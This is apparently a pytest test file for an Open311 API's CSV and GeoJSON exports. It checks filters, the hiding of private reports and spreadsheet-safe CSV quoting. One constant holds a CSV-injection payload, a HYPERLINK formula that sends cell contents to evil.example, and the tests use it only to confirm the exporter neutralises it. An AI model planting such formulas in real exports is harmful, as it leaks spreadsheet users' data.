"""GET requests.csv and requests.geojson: the same reports as GET requests.{fmt} under every
filter, in the same order, with the public fields only; never a private, blackbox or
unresolved batch report, whatever key is presented; spreadsheet-safe CSV cells; the
window rule; errors as the JSON error list."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import select

from open311.models import ServiceRequest
from tests.conformance.conftest import REQUEST_FIELDS, created, edit_request
from tests.conftest import make_key
from tests.helpers import HAMDEN_CENTRE, HOUSING_PROPERTY, errors, parse

from .common import API, EXPORTS, export_ids, export_rows

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def w3c(value: datetime) -> str:
    return value.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def now() -> datetime:
    return datetime.now(UTC).replace(microsecond=0)


@dataclass
class Reports:
    public: list[str]
    hidden: list[str]  # private, blackbox (by its stored id) and unresolved batch reports
    old: str  # requested 200 days ago
    closed: str
    formula: str
    unlocated: str
    hamden: str


@pytest.fixture
def reports(app: Any, client: Any, submit_key: str) -> Reports:
    def new(**fields: Any) -> str:
        return str(created(client, "json", submit_key, **fields)["service_request_id"])

    pothole = new(description="Deep one", address_string="1 Church St")
    old = new(service_code="STREETLIGHT", description="Out for weeks")
    closed = new(service_code="SNOW_REMOVAL")
    formula = new(service_code="LEAK", description=FORMULA, address_string="+1 Elm St")
    unlocated = new(service_code="LEAK", lat=None, long=None, address_string="9 Orange St")
    hamden = new(
        service_code="BULKY_PICKUP",
        jurisdiction_id="hamdenct.gov",
        lat=HAMDEN_CENTRE[0],
        long=HAMDEN_CENTRE[1],
    )
    edit_request(app, old, requested_datetime=now() - timedelta(days=200))
    edit_request(app, closed, status="closed", updated_datetime=now() + timedelta(minutes=5))
    private = created(
        client,
        "json",
        submit_key,
        service_code="NEIGHBOR_COMPLAINT",
        lat=HOUSING_PROPERTY[0],
        long=HOUSING_PROPERTY[1],
        description="Tuba at 3am",
    )["service_request_id"]
    created(client, "json", submit_key, service_code="GRAFFITI", description="Tag on the wall")
    created(client, "json", submit_key, service_code="ZONING", email="z@example.org")
    hidden = [private, *_stored_ids(app, ("GRAFFITI", "ZONING"))]
    return Reports(
        public=[pothole, old, closed, formula, unlocated, hamden],
        hidden=hidden,
        old=old,
        closed=closed,
        formula=formula,
        unlocated=unlocated,
        hamden=hamden,
    )


def _stored_ids(app: Any, codes: tuple[str, ...]) -> list[str]:
    with app.extensions["open311"].db.read() as session:
        found = session.scalars(
            select(ServiceRequest.public_id).where(ServiceRequest.service_code.in_(codes))
        ).all()
    assert len(found) == len(codes)
    return [str(i) for i in found]


def filters(r: Reports) -> list[dict[str, str]]:
    day = timedelta(days=1)
    return [
        {},
        {"service_request_id": ",".join([*r.public, *r.hidden])},
        {"service_request_id": f"{r.old}, {r.closed}", "status": "open"},
        {"service_code": "LEAK,SNOW_REMOVAL"},
        {"status": "closed"},
        {"status": "open"},
        {"start_date": w3c(now() - timedelta(days=300)), "end_date": w3c(now() + day)},
        {"start_date": w3c(now() - timedelta(days=300))},
        {"end_date": w3c(now() - timedelta(days=100))},
        {"updated_after": w3c(now() - day)},
        {"updated_after": w3c(now() - day), "updated_before": w3c(now() + timedelta(minutes=1))},
        {"lat": "41.3083", "long": "-72.9279"},
        {"lat": "41.3083", "long": "-72.9279", "radius": "5000", "service_code": "LEAK"},
        {"bbox": "-73.2,41.1,-72.8,41.5"},
        {"agency_responsible": "nhv-public-works"},
        {"agency_responsible": "New Haven Department of Public Works", "status": "open"},
        {"sort": "requested_datetime"},
        {"sort": "-updated_datetime"},
        {"sort": "updated_datetime", "updated_after": w3c(now() - timedelta(days=300))},
        {"jurisdiction_id": "hamdenct.gov"},
        {"page": "2", "page_size": "2"},
        {"page_size": "3", "sort": "requested_datetime"},
        {"page": "1"},
    ]


def listed_ids(client: Any, fmt: str, **params: Any) -> list[str]:
    response = client.get(f"{API}/requests.{fmt}", query_string=params)
    assert response.status_code == 200, response.data[:300]
    return [row["service_request_id"] for row in parse(response, fmt)]


@pytest.mark.parametrize("kind", EXPORTS)
def test_every_filter_gives_the_listing_s_reports_in_its_order(
    client: Any, reports: Reports, fmt: str, kind: str
) -> None:
    seen: set[str] = set()
    for params in filters(reports):
        expected = listed_ids(client, fmt, **params)
        assert export_ids(client, kind, **params) == expected, params
        seen.update(expected)
    assert seen == set(reports.public)  # the filters reached every public report


@pytest.mark.parametrize("kind", EXPORTS)
def test_the_fields_are_the_public_fields_of_the_json_answer(
    app: Any, client: Any, reports: Reports, kind: str
) -> None:
    listing = {
        r["service_request_id"]: r for r in parse(client.get(f"{API}/requests.json"), "json")
    }
    response = client.get(f"{API}/requests.{kind}")
    rows = export_rows(response, kind)
    assert len(rows) == len(listing) == 4  # the old and the Hamden reports are elsewhere
    for row in rows:
        want = listing[row["service_request_id"]]
        assert list(row) == list(REQUEST_FIELDS)
        if kind == "geojson":
            assert row == want
        elif row["service_request_id"] != reports.formula:
            assert row == {k: "" if v is None else str(v) for k, v in want.items()}
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "public, max-age=10"


def test_geojson_points_are_long_lat_and_unlocated_reports_have_no_geometry(
    client: Any, reports: Reports
) -> None:
    body = json.loads(client.get(f"{API}/requests.geojson").data)
    features = {f["id"]: f for f in body["features"]}
    for rid, feature in features.items():
        assert feature["type"] == "Feature"
        props = feature["properties"]
        if rid == reports.unlocated:
            assert feature["geometry"] is None and props["lat"] is None
        else:
            assert feature["geometry"] == {
                "type": "Point",
                "coordinates": [props["long"], props["lat"]],
            }
    assert reports.unlocated in features


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_off(
    client: Any, reports: Reports
) -> None:
    response = client.get(f"{API}/requests.csv", query_string={"service_code": "LEAK"})
    text = response.data.decode("utf-8")
    assert text.startswith(",".join(REQUEST_FIELDS) + "\r\n")
    assert text.count("\r\n") == 3 and "\n" not in text.replace("\r\n", "")
    rows = {r["service_request_id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    risky = rows[reports.formula]
    assert risky["description"] == "'" + FORMULA
    assert risky["address"] == "'+1 Elm St"
    assert risky["long"] == "-72.9279"  # a number of the gateway's own stays a number
    # GeoJSON is data for programs, not a spreadsheet: the text as it was sent.
    feature = json.loads(client.get(f"{API}/requests.geojson").data)["features"]
    (same,) = [f for f in feature if f["id"] == reports.formula]
    assert same["properties"]["description"] == FORMULA


@pytest.mark.parametrize("kind", EXPORTS)
@pytest.mark.parametrize("role", [None, "submit", "staff", "admin"])
def test_no_key_adds_a_private_report(
    app: Any, client: Any, reports: Reports, submit_key: str, kind: str, role: str | None
) -> None:
    key = {
        None: None,
        "submit": submit_key,  # the key that filed the private report
        "staff": make_key(app, "lee", "staff", "nhv-housing-authority"),
        "admin": make_key(app, "root", "admin"),
    }[role]
    everything = ",".join([*reports.public, *reports.hidden])
    for params in ({}, {"service_request_id": everything}, {"service_code": "NEIGHBOR_COMPLAINT"}):
        query = {**params, **({"api_key": key} if key else {})}
        ids = export_ids(client, kind, **query)
        assert not set(ids) & set(reports.hidden), (role, params)
        assert export_ids(client, kind, **params) == ids  # the key changes nothing
    if role == "admin":  # while the listing does show it to this key
        shown = listed_ids(client, "json", service_request_id=everything, api_key=key)
        assert set(reports.hidden) <= set(shown)


@pytest.mark.parametrize("kind", EXPORTS)
def test_bad_filters_answer_the_json_error_list(client: Any, reports: Reports, kind: str) -> None:
    url = f"{API}/requests.{kind}"
    # One clock reading: two that straddle a second made the 366-day span 366 days + 1 s.
    today = now()
    old = w3c(today - timedelta(days=800))
    cases = [
        ({"status": "pending"}, 400),
        ({"start_date": "soon"}, 400),
        ({"service_code": "NOPE"}, 404),
        ({"jurisdiction_id": "nowhere.example"}, 404),
        ({"page_size": "1001"}, 400),
        ({"start_date": old, "end_date": w3c(today)}, 400),
        ({"start_date": old, "end_date": w3c(today - timedelta(days=433))}, 400),
        ({"updated_after": old}, 400),
        ({"updated_before": w3c(today)}, 400),
    ]
    for params, status in cases:
        response = client.get(url, query_string=params)
        assert response.status_code == status, (params, response.data)
        assert errors(response, "json"), params
    # Within a year, or a year of requests with updated_* on top: allowed.
    allowed = [
        {"start_date": old, "end_date": w3c(today - timedelta(days=434))},
        {"start_date": w3c(today - timedelta(days=300)), "updated_before": w3c(today)},
    ]
    allowed[1]["end_date"] = w3c(today)
    for params in allowed:
        assert client.get(url, query_string=params).status_code == 200, params
    assert client.post(url).status_code == 405


@pytest.mark.parametrize("kind", EXPORTS)
def test_an_empty_export_is_still_a_document(client: Any, kind: str) -> None:
    response = client.get(f"{API}/requests.{kind}")
    assert export_rows(response, kind) == []
    if kind == "csv":
        assert response.data.decode() == ",".join(REQUEST_FIELDS) + "\r\n"
